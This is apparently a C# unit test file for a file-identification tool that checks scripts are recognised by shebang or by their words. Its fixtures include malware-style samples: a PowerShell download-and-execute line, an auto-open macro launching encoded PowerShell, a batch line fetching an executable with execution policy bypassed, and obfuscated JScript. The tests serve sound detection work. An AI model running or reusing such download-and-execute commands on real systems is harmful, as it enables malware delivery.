namespace Crible.Tests.Identification;

/// <summary>Scripts recognised by a shebang or by the words of their source, and plain text left alone.</summary>
public sealed class ScriptDetectionTests
{
    private const string PowerShell = """
        param([string]$Url = "http://example.invalid/a.ps1")
        $ErrorActionPreference = "Stop"
        $client = New-Object System.Net.WebClient
        $path = Join-Path $env:TEMP "a.ps1"
        $bytes = [Convert]::FromBase64String("SGVsbG8=")
        Get-ChildItem -Path $env:TEMP | Where-Object { $_.Length -gt 1000 } | Out-Null
        Invoke-Expression ($client.DownloadString($Url))
        """;

    private const string Batch = """
        @echo off
        setlocal
        set TARGET=%~dp0payload.exe
        if not exist "%TARGET%" goto :download
        start "" "%TARGET%"
        goto :eof
        :download
        REM fetch it first
        for /f "tokens=*" %%a in ('dir /b') do echo %%a > nul
        exit /b 0
        """;

    private const string VbScript = """
        Option Explicit
        Dim shell, fso, path
        Set shell = CreateObject("WScript.Shell")
        Set fso = CreateObject("Scripting.FileSystemObject")
        path = shell.ExpandEnvironmentStrings("%TEMP%") & "\a.exe"
        If Not fso.FileExists(path) Then
            MsgBox "missing" & vbCrLf & path
        End If
        Sub Run()
            shell.Run path, 0, False
        End Sub
        """;

    private const string JScript = """
        var shell = new ActiveXObject("WScript.Shell");
        var xhr = new ActiveXObject("MSXML2.XMLHTTP");
        function fetch(url) {
            xhr.open("GET", url, false);
            xhr.send();
            return xhr.responseBody;
        }
        try { fetch("http://example.invalid/x"); } catch (e) { WScript.Quit(1); }
        """;

    private const string Python = """
        import os
        import sys
        from pathlib import Path

        def main(argv):
            for name in os.listdir("."):
                print(name)
            return 0

        if __name__ == "__main__":
            sys.exit(main(sys.argv))
        """;

    private const string Shell = """
        set -e
        export PATH=/usr/local/bin:$PATH
        if [ -z "$1" ]; then
            echo "usage: $0 file" >&2
            exit 1
        fi
        for f in "$@"; do
            chmod +x "$f"
        done
        case "$1" in
            -h) echo help ;;
        esac
        """;

    public static TheoryData<string, string> ScriptsWithoutShebang() => new()
    {
        { PowerShell, "powershell" },
        { Batch, "batch" },
        { VbScript, "vbscript" },
        { JScript, "javascript" },
        { Python, "python" },
        { Shell, "shell" },
    };

    [Theory]
    [MemberData(nameof(ScriptsWithoutShebang))]
    public void Script_without_shebang_is_recognised_by_its_words(string source, string expectedKind) =>
        Assert.Equal(expectedKind, Identify.Text(source, "untitled.txt"));

    [Theory]
    [InlineData("#!/bin/sh\necho hi\n", "shell")]
    [InlineData("#!/bin/bash -e\nls\n", "shell")]
    [InlineData("#! /usr/bin/env python3\nprint(1)\n", "python")]
    [InlineData("#!/usr/bin/python2.7\nprint 1\n", "python")]
    [InlineData("#!/usr/bin/env -S perl -w\nprint 1;\n", "perl")]
    [InlineData("#!/usr/bin/perl\nuse strict;\n", "perl")]
    [InlineData("#!/usr/bin/env node\nconsole.log(1)\n", "javascript")]
    [InlineData("#!/usr/bin/env pwsh\nWrite-Host hi\n", "powershell")]
    [InlineData("#!/usr/bin/ruby\nputs 1\n", "text")]
    public void Shebang_names_the_language(string source, string expectedKind) =>
        Assert.Equal(expectedKind, Identify.Text(source));

    [Fact]
    public void A_vba_macro_that_launches_powershell_stays_vbscript()
    {
        var macro = VbScript + "\nSub AutoOpen()\n  shell.Run \"powershell -NoProfile -EncodedCommand SQBFAFgA $env:TEMP\"\nEnd Sub\n";

        Assert.Equal("vbscript", Identify.Text(macro));
    }

    [Fact]
    public void A_batch_file_that_runs_powershell_stays_batch()
    {
        var batch = Batch + "\npowershell -ExecutionPolicy Bypass -Command \"Invoke-WebRequest http://x -OutFile $env:TEMP\\a.exe\"\n";

        Assert.Equal("batch", Identify.Text(batch));
    }

    [Theory]
    [InlineData("Dear team,\n\nthe meeting is moved to Thursday at 10:00. Please bring the figures; we will import them.\n\nRegards,\nAnna\n")]
    [InlineData("{\n  \"name\": \"crible\",\n  \"enabled\": true,\n  \"items\": [1, 2, null]\n}\n")]
    [InlineData("body {\n  color: red;\n  margin: 0;\n}\n@media (max-width: 700px) {\n  div { width: auto; }\n}\n")]
    [InlineData("[Settings]\nUpdate=300\nName=Lorem\n; comment\n")]
    [InlineData("key: value\nlist:\n  - a\n  - b\nfrom: somewhere\nto: elsewhere\n")]
    public void Ordinary_text_is_not_taken_for_a_script(string text) => Assert.Equal("text", Identify.Text(text));

    [Theory]
    [InlineData("invoice.js", "javascript")]
    [InlineData("INVOICE.JS", "javascript")]
    [InlineData("invoice.vbs", "vbscript")]
    [InlineData("invoice.txt", "text")]
    public void Text_that_says_nothing_by_its_words_is_read_by_the_extension_windows_runs_it_by(string name, string expectedKind) =>
        Assert.Equal(expectedKind, Identify.Text("this[\"\\x65\\u0076a\\x6c\"](\"\\u006ee\\167\\40\\101\\143\\164\\151v\\145XO\")", name));

    [Fact]
    public void A_script_with_its_own_words_keeps_its_language_whatever_its_name() =>
        Assert.Equal("powershell", Identify.Text(PowerShell, "notes.js"));

    [Fact]
    public void A_script_padded_with_data_is_recognised_by_its_end()
    {
        var padding = "/*" + new string('c', 100_000) + "*/\n";
        var source = padding + JScript;

        Assert.Equal("javascript", Identify.Text(source));
    }
}
